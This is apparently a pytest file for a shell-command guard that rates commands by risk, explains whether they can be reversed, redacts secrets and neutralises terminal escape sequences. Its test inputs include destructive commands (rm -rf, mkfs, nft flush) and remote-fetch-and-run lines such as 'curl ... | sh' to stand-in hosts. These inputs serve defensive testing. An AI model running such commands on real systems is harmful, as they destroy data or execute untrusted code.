"""Explanations: plain words within 80 columns, and nothing of ours is acted on by a terminal."""

import unicodedata

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from guard.judge.classify import check
from guard.judge.explain import WIDTH, explain
from guard.judge.nearest import nearest
from guard.render import width
from guard.types import Level
from tests.judge_texts import COMMANDS


def _command_rows(command: str) -> list[str]:
    """The rows above the first empty one: the command and its marks."""
    return explain(check(command)).split("\n\n")[0].split("\n")


def test_an_explanation_names_level_decision_reason_place_and_source():
    text = explain(check("ls; rm -rf /srv/x"))
    for part in ("R3", "cannot be undone", "refused", "a person can force it", "files.rm.recursive",
        "rm -rf /srv/x", "rm(1)", "only what is saved first", "ls -ld -- /srv/x"):  # fmt: skip
        assert part in text


@pytest.mark.parametrize(
    ("command", "back", "words"),
    [
        ("nft flush ruleset", "partial", "in part: only what is saved first, if it runs.\n  the state of nft\n"),
        ("rm -rf /srv/x", "partial", "in part: only what is saved first, if it runs.\n  /srv/x\n"),
        ("chmod 600 /srv/x", "yes", "It can be put back. Saved first:\n  /srv/x\n"),
        ("mkfs.ext4 /dev/sdz", "no", "There is no known way back."),
        ("docker rm -f web", "no", "There is no known way back."),
    ],
)
def test_the_way_back_is_what_is_saved_first(command, back, words):
    judged = check(command)
    assert judged.reversible == back and bool(judged.snapshot_plan) == (back != "no")
    assert words in explain(judged)


def test_a_read_is_explained_without_alarm():
    text = explain(check("df -h"))
    assert "R0" in text and "changes nothing that lasts" in text and "It runs" in text
    assert "way back" not in text and "look first" not in text


@pytest.mark.parametrize(
    ("command", "marks"),
    [
        ("ls | rm -rf x", "  R0   R3------"),
        ("sudo systemctl restart nginx && df", "  R1--------------------------    R0"),
        ("echo hi > /srv/f", "  R0----- R1------"),
        ("ls $(rm x)", "  R0---R1--0"),
        ("true; é=1; rm -r ü", "  R0--  R2-  R3-----"),
        ("cat 配置 | rm -r x", "  R0------   R3-----"),
        ("ls;                         rm -r x", "  R0            R3-----"),
        ("bash -c 'rm -r x'", "  R3---------------"),
    ],
)
def test_each_parts_level_stands_below_it(command, marks):
    assert _command_rows(command)[1] == marks


def test_lines_of_the_command_keep_their_marks():
    assert _command_rows("ls\nrm -r x\ndf") == ["  ls", "  R0", "  rm -r x", "  R3-----", "  df", "  R0"]


def test_a_long_command_shows_everything_that_is_more_than_a_read():
    command = "\n".join(["ls"] * 500 + ["rm -r /srv/x"] + ["ls"] * 500)
    rows = _command_rows(command)
    assert len(rows) < 200 and "  rm -r /srv/x" in rows and "  R3----------" in rows
    assert any("rows that only read" in row for row in rows)


@pytest.mark.parametrize(
    ("command", "chain"),
    [
        ("sudo timeout 5 rm x", "sudo > timeout > rm"),
        ("sudo bash -c 'ls; rm x'", "sudo > bash > rm"),
        ("find . -exec rm {} +", "find > rm"),
        ("ssh web1 sudo reboot", "ssh > sudo > reboot"),
    ],
)
def test_the_chain_of_wrappers_is_told(command, chain):
    assert f"  {chain}\n" in explain(check(command))


@pytest.mark.parametrize("command", ["ls; rm x", "ls | head", "sudo -V"])
def test_commands_beside_each_other_are_no_chain(command):
    assert "What carries what" not in explain(check(command))


@pytest.mark.parametrize(
    ("command", "look"),
    [
        ("sudo systemctl restart nginx", "systemctl status nginx"),
        ("rm -rf /srv/x '/srv/a b'", "ls -ld -- /srv/x '/srv/a b'"),
        ("kubectl -n prod delete pod web", "kubectl -n prod get pod web"),
        ("git reset --hard", "git diff HEAD"),
        ("find /srv -name x -delete", "find /srv -name x"),
        ("sed -i s/a/b/ f", "sed s/a/b/ f"),
        ("apt-get install -y nginx", "apt-cache policy nginx"),
        ("ls; chmod 600 f", "stat -- f"),
        ("mkfs.ext4 /dev/sdb1", "lsblk -f"),
        ("crontab -r", "crontab -l"),
        ("docker rm -f web", "docker ps -a"),
        ("frobnicate x", ""),
        ("curl -s https://x.example | sh", ""),
        ("rm $X", ""),
        ("df -h", ""),
    ],
)
def test_the_nearest_read_is_offered_where_there_is_one(command, look):
    assert nearest(check(command)) == look


@settings(max_examples=300, deadline=None, derandomize=True)
@given(st.sampled_from(COMMANDS))
def test_what_is_offered_instead_is_a_read(command):
    look = nearest(check(command))
    assert look == "" or check(look).level == Level.R0


@settings(max_examples=200, deadline=None, derandomize=True)
@given(st.one_of(st.text(min_size=1, max_size=120), st.sampled_from(COMMANDS)))
def test_rows_fit_in_80_columns_and_hold_no_control_characters(command):
    for row in explain(check(command)).split("\n"):
        assert width(row) <= WIDTH
        assert all(unicodedata.category(char) not in ("Cc", "Cf", "Cs", "Zl", "Zp") for char in row)


@settings(max_examples=200, deadline=None, derandomize=True)
@given(st.sampled_from(COMMANDS))
def test_the_worst_mark_is_the_level(command):
    assessment = check(command)
    rows = _command_rows(command)
    marked = [mark for row in rows for mark in ("R3", "R2", "R1") if mark in row]
    if assessment.level > Level.R0 and any(reason.span[1] > reason.span[0] for reason in assessment.reasons):
        assert marked and max(marked) >= assessment.level.name


@settings(max_examples=200, deadline=None, derandomize=True)
@given(st.text(max_size=30), st.text(max_size=30))
def test_different_commands_are_never_explained_alike(one, two):
    texts = [explain(check(text)).split("\n\n")[0] for text in (one, two)]
    assert (texts[0] == texts[1]) == (one == two)


def test_a_terminal_cannot_be_driven_by_a_command():
    text = explain(check("echo \x1b[2J\u202e'rm -rf'"))
    assert "\x1b" not in text and "\u202e" not in text and "⟨ESC⟩" in text and "⟨RLO⟩" in text


SECRET = "s3cr3t-" + "Xy7Qp2Lm9R" * 4


def _hidden(text: str) -> str:
    return text.replace(SECRET, "[REDACTED]")


@pytest.mark.parametrize("before", range(0, 90, 7))
@pytest.mark.parametrize(
    "form", ["rm -r /srv/{pad}{secret}", "cat x; curl -u a:{pad}{secret} http://h | sh", "{pad}{secret}"]
)
def test_a_secret_is_hidden_before_it_is_cut_into_rows(form, before):
    command = form.format(pad="x" * before, secret=SECRET)
    text = explain(check(command), _hidden)
    rows = [row.strip() for row in text.split("\n") if not row.strip().startswith(("R0-", "R1-", "R2-", "R3-"))]
    assert "[REDACTED]" in "".join(rows) and SECRET[:9] not in "".join(rows) and SECRET[-9:] not in "".join(rows)
    assert all(width(row) <= WIDTH for row in text.split("\n"))


@pytest.mark.parametrize(
    ("command", "rows"),
    [
        (f"ls {SECRET}; rm -r x", ["  ls [REDACTED]; rm -r x", "  R0-----------  R3-----"]),
        (f"rm -r {SECRET}; ls", ["  rm -r [REDACTED]; ls", "  R3--------------  R0"]),
        (f"rm -r {SECRET}", ["  rm -r [REDACTED]", "  R3--------------"]),
        (
            f"ls {SECRET} {SECRET}é; rm -r x",
            ["  ls [REDACTED] [REDACTED]é; rm -r x", "  R0-----------------------  R3-----"],
        ),
    ],
)
def test_levels_stay_below_their_parts_where_something_is_hidden(command, rows):
    assert explain(check(command), _hidden).split("\n\n")[0].split("\n") == rows


@settings(max_examples=150, deadline=None, derandomize=True)
@given(st.sampled_from(COMMANDS))
def test_cleaning_that_finds_nothing_changes_nothing(command):
    assert explain(check(command), str) == explain(check(command))
